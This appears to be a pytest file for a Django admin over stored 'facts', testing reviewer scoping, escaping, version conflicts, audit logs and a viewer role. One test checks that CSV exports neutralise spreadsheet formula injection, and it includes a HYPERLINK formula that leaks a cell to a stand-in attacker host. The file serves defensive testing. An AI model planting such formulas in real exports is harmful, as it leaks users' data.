"""The admin of facts: reviewers of their own projects, through the services."""

import csv
import io

import pytest
from django.contrib.auth.models import User
from django.test import Client

from access_app.services import add_member
from agentstate.ids import new_id
from tests.memory_app.calls import facts, remember

LIST = "/admin/memory_app/fact/"


@pytest.fixture
def reviewer(project):
    """Staff with a role and with none of Django's permissions."""
    user = User.objects.create_user(f"r-{new_id()}", password="x", is_staff=True)
    add_member(project.id, user, "reviewer")
    client = Client()
    client.force_login(user)
    return client


def form(row, **changes):
    return {
        "fact": row["fact"],
        "key": row["key"],
        "kind": row["kind"],
        "note": row["note"],
        "reason": "a call",
        "expected_version": row["version"],
    } | changes


def act(client, action, ids, reason="a letter"):
    form = {"action": action, "_selected_action": ids, "reason": reason}
    return client.post(LIST, form)


def test_reviewers_see_their_projects_alone(api, other_api, reviewer):
    remember(api, "Likes <b>tea</b>")
    foreign = remember(other_api, "Theirs alone")
    shown = reviewer.get(LIST).content.decode()
    assert "Likes &lt;b&gt;tea&lt;/b&gt;" in shown and "Theirs alone" not in shown
    assert reviewer.get(f"{LIST}{foreign['id']}/change/").status_code in (302, 404)


def test_ad_02_a_late_form_changes_nothing(api, reviewer):
    first, second = remember(api, "one"), remember(api, "two")
    api.patch(
        f"/api/v1/memory/{second['id']}", {"fact": "by API", "expected_version": 1}
    )
    saved = reviewer.post(
        f"{LIST}{first['id']}/change/",
        form(first, fact="by staff", reason="a letter"),
    )
    assert saved.status_code == 302
    late = reviewer.post(f"{LIST}{second['id']}/change/", form(second, fact="stale"))
    assert late.status_code == 200 and ">stale</textarea>" in late.content.decode()
    now = {f["id"]: f for f in facts(api)}
    assert now[first["id"]]["fact"] == "by staff" and now[first["id"]]["version"] == 2
    assert now[second["id"]]["fact"] == "by API" and now[second["id"]]["version"] == 2
    entries = api.get("/api/v1/audit", params={"action": "memory.corrected"}).json
    assert [(e["after"]["fact"], e["reason"]) for e in entries["items"]] == [
        ("by staff", "a letter"),
        ("by API", ""),
    ]
    untouched = reviewer.post(f"{LIST}{first['id']}/change/", form(now[first["id"]]))
    assert untouched.status_code == 302
    assert {f["id"]: f for f in facts(api)} == now


def test_ad_03_no_cell_of_an_export_is_a_formula(api, reviewer):
    given = [
        '=HYPERLINK("https://evil.example.test/?"&A1,"x")',
        "+1+1",
        "-2",
        "@SUM(A1)",
        "\tTab first",
        "\r=1",
        " =1 more",
        "plain",
    ]
    made = [remember(api, text)["id"] for text in given]
    answer = act(reviewer, "export_csv", made)
    text = b"".join(answer.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [row[2] for row in rows[1:]]
    assert [cell.removeprefix("'") for cell in cells] == given
    assert not any(cell.lstrip(" ")[:1] in "=+-@\t\r" for cell in cells)


def test_ad_06_actions_are_audited_one_by_one(api, reviewer):
    made = [remember(api, f"fact {n}")["id"] for n in range(5)]
    act(reviewer, "reject", made[:3])
    assert [f["status"] for f in facts(api)] == ["active"] * 2 + ["rejected"] * 3
    act(reviewer, "forget", made[3:])
    assert len(facts(api)) == 3

    def audited(action):
        params = {"action": action}
        return len(api.get("/api/v1/audit", params=params).json["items"])

    assert (audited("memory.rejected"), audited("memory.forgotten")) == (3, 2)


def audit_of(api, action):
    return api.get("/api/v1/audit", params={"action": action}).json["items"]


def test_nothing_is_done_without_a_reason(api, reviewer):
    row = remember(api, "Likes tea")
    for action in ("approve", "reject", "forget", "export_csv"):
        answer = act(reviewer, action, [row["id"]], reason=" ")
        assert answer.status_code == 302
    page = reviewer.post(f"{LIST}{row['id']}/change/", form(row, fact="x", reason=""))
    assert page.status_code == 200  # the form again, with what it misses
    assert [(f["version"], f["status"]) for f in facts(api)] == [(1, "active")]
    assert audit_of(api, "subject.exported") == []


def test_what_is_looked_at_and_taken_along_is_audited(api, reviewer):
    row, other = remember(api, "Likes tea"), remember(api, "Walks", subject="u-other")
    reviewer.get(LIST)
    reviewer.get(f"{LIST}{row['id']}/change/")
    looks = audit_of(api, "subject.viewed")
    assert len(looks) == 2 and all(e["actor"].startswith("user:r-") for e in looks)
    act(reviewer, "export_csv", [row["id"], other["id"]])
    assert [e["reason"] for e in audit_of(api, "subject.exported")] == ["a letter"] * 2


def test_a_fact_is_shown_with_the_words_it_came_from(api, reviewer):
    session = api.post("/api/v1/sessions", {"subject": "u-1"}).json["id"]
    event = {"type": "message.user", "payload": {"content": "Tea, <b>please</b>"}}
    api.post(f"/api/v1/sessions/{session}/events", {"events": [event]})
    row = remember(api, "Likes tea", source={"session": session, "seqs": [1]})
    page = reviewer.get(f"{LIST}{row['id']}/change/").content.decode()
    assert "Tea, &lt;b&gt;please&lt;/b&gt;" in page


def test_histories_and_receipts_are_to_look_at(api, reviewer):
    from memory_app.models import FactRevision, Receipt

    row = remember(api, "Likes tea")
    revision = FactRevision.objects.get(memory_id=row["id"])
    act(reviewer, "forget", [remember(api, "Walks", subject="u-2")["id"]])
    receipt = Receipt.objects.filter(project_id=revision.project_id).get()
    for model, row in (("factrevision", revision), ("receipt", receipt)):
        url = f"/admin/memory_app/{model}/{row.pk}/change/"
        assert reviewer.get(url).status_code == 200
        assert reviewer.post(url, {"reason": "x"}).status_code == 403
    assert len(audit_of(api, "subject.viewed")) == 1


def test_a_viewer_looks_and_changes_nothing(api, project, reviewer):
    from access_app.models import Member

    row = remember(api, "Likes tea")
    Member.objects.filter(project=project).update(role="viewer")
    assert reviewer.get(f"{LIST}{row['id']}/change/").status_code == 200
    for action in ("reject", "forget", "export_csv"):
        act(reviewer, action, [row["id"]])
    reviewer.post(f"{LIST}{row['id']}/change/", form(row, fact="by a viewer"))
    assert [(f["version"], f["status"]) for f in facts(api)] == [(1, "active")]
    assert audit_of(api, "subject.exported") == []
